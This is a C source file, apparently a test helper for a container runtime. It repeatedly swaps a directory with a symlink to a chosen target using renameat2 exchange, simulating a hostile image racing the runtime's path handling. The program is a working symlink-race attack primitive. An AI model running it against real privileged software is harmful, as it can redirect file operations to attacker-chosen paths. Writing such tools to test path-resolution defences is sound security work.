/* An image or a neighbour that changes a path under the runtime's feet.
 *
 *   attack-swap DIR NAME TARGET
 *
 * DIR/NAME, a directory, is exchanged with a symlink to TARGET, back and forth as fast as the
 * kernel does it, until stdin ends. Then NAME is the directory again, and the number of exchanges
 * is printed.
 */
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#define RENAME_EXCHANGE_FLAG 2

static int dir;

static void
exchange (const char *a, const char *b)
{
  if (syscall (SYS_renameat2, dir, a, dir, b, RENAME_EXCHANGE_FLAG) < 0)
    {
      perror ("renameat2");
      exit (1);
    }
}

static int
has_ended (void)
{
  struct pollfd in = { .fd = 0, .events = POLLIN };
  char c;

  return poll (&in, 1, 0) > 0 && read (0, &c, 1) <= 0;
}

int
main (int argc, char **argv)
{
  unsigned long n = 0;
  char other[300];

  if (argc != 4)
    return 2;
  dir = open (argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  snprintf (other, sizeof other, "%s.swap", argv[2]);
  if (dir < 0 || symlinkat (argv[3], dir, other) < 0)
    {
      perror (argv[1]);
      return 1;
    }
  /* An even number of exchanges in between, so that the directory is in its place at the end. */
  do
    for (int i = 0; i < 64; i++, n++)
      exchange (argv[2], other);
  while (!has_ended ());
  unlinkat (dir, other, 0);
  printf ("%lu\n", n);
  return 0;
}
